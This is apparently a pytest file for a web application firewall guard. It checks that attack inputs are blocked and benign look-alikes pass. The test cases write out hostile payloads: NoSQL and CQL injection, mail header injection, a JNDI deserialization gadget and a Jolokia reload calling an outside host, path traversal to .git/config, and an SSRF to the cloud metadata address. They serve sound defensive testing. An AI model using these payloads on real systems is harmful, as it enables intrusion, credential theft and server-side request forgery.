"""The readings the eighteenth blind set prompted, each as a technique through the whole guard
(issue 17; docs/waf.md)."""

from __future__ import annotations

import base64
import json
from urllib.parse import quote

import pytest

from bastion.config.waf import WAFConfig
from bastion.core.context import Context
from bastion.core.request import Headers, Request
from bastion.guards.waf import WAFGuard


@pytest.fixture(scope="module")
def guard() -> WAFGuard:
    return WAFGuard(WAFConfig())


def refused(guard: WAFGuard, path: str = "/api/v1/items", query: str = "", body: str | None = None) -> bool:
    headers = [("host", "api.test"), ("user-agent", "Mozilla/5.0 Firefox/126.0")]
    if body is not None:
        headers.append(("content-type", "application/json"))
    request = Request(
        method="POST" if body is not None else "GET",
        path=path,
        query=query,
        headers=Headers(headers),
        client="127.0.0.1",
        body=body.encode() if body is not None else None,
    )
    verdict = guard.check(request, Context("waf-eighteenth-0001"))
    return verdict is not None and verdict.status == 403


@pytest.mark.parametrize(
    "value",
    [
        "Kernel.public_send(['sy','stem'].join, 'id')",  # a Ruby send whose name an array builds
        "a'||this.password.charAt(0)=='s'||'",  # $where reading a field character by character
        "title:x OR _index:* OR password:*",  # a Lucene wildcard over a credential field
        "admin' ALLOW FILTERING; --",  # CQL after a closed string
        "a@b.example\x0bBcc: promo@evil.example",  # a line separator splitlines() honours
        "a@a.example\r\nList-Unsubscribe: <https://evil.example/u>",  # a mail list field after a token
        "h\tttp://stat-counter.example/s.txt?",  # a scheme split by a tab, which URL parsers remove
        "http:/\\/\\stat-counter.example/shell.txt",  # slashes mixed with backslashes
        '["ch.qos.logback.core.db.JNDIConnectionSource",{"jndiLocation":"rmi://203.0.113.47:1099/Object"}]',
    ],
)
def test_the_eighteenth_blind_sets_techniques_are_refused(guard: WAFGuard, value: str) -> None:
    assert refused(guard, body=json.dumps({"value": value, "gadget": json.loads(value) if value[0] == "[" else 0}))


def test_a_url_in_jolokias_escaped_form_is_refused(guard: WAFGuard) -> None:
    path = "/jolokia/exec/ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigurator"
    assert refused(guard, path=path + "/reloadByURL/http:!/!/203.0.113.47!/logback.xml")


@pytest.mark.parametrize(
    ("query", "passes"),
    [
        ('filter={"tags":{"$all":["vip","eu"]}}', True),  # a list of tags the rows must hold
        ('filter={"score":{"$gt":80},"archived":{"$ne":true}}', True),  # not archived: a flag
        ('filter={"password":{"$ne":"wrong"}}', False),  # every password but one: the bypass
        ('filter={"status":{"$ne":null}}', False),
        ("status[$ne]=0", False),  # a name's value is a string, never a flag
        ('q="<script" repo:web', True),  # a code search: `<script"` names no script element
    ],
)
def test_filters_and_searches_read_as_what_they_are(guard: WAFGuard, query: str, passes: bool) -> None:
    name, _, value = query.partition("=")
    assert refused(guard, query=f"{quote(name)}={quote(value)}") is not passes


@pytest.mark.parametrize(
    "text",
    [
        "We should not log `${jndi:...}`-style strings raw; lookups are off in 2.17.",
        "server {\n    location ~ \\.php$ {\n        fastcgi_pass unix:/run/php/php8.3-fpm.sock;\n    }\n}",
        "<?php\n$stmt = $pdo->prepare('SELECT * FROM posts WHERE id = :id');\n$stmt->execute(['id' => $_GET['id']]);\n",
    ],
)
def test_what_the_eighteenth_sets_readings_leave_alone(guard: WAFGuard, text: str) -> None:
    assert not refused(guard, body=json.dumps({"body": text}))


def test_an_editors_glob_names_no_file(guard: WAFGuard) -> None:
    # VS Code's settings exclude `**/.git`: a glob (any directories), neither Windows' `??` wildcard
    # standing for `..` nor a request for the repository's files
    settings = {"editor.fontFamily": "JetBrains Mono", "files.exclude": {"**/.git": True, "**/node_modules": True}}
    assert not refused(guard, body=json.dumps(settings))
    assert refused(guard, body=json.dumps({"path": "??\\??\\.git\\config"}))
    assert refused(guard, path="/static/../.git/config")


def test_a_base64_connection_string_with_credentials_is_a_setting(guard: WAFGuard) -> None:
    # a Kubernetes Secret's data: base64 is how the setting travels; the metadata service stays refused
    secret = base64.b64encode(b"postgres://app:sL3gdzjPhBeiAT5o@db.internal:5432/app").decode()
    assert not refused(guard, body=json.dumps({"kind": "Secret", "data": {"DATABASE_URL": secret}}))
    metadata = base64.b64encode(b"http://169.254.169.254/latest/meta-data/").decode()
    assert refused(guard, body=json.dumps({"kind": "Secret", "data": {"URL": metadata}}))
    assert refused(guard, body=json.dumps({"url": "postgres://app:pw@db.internal:5432/app"}))  # as sent: read
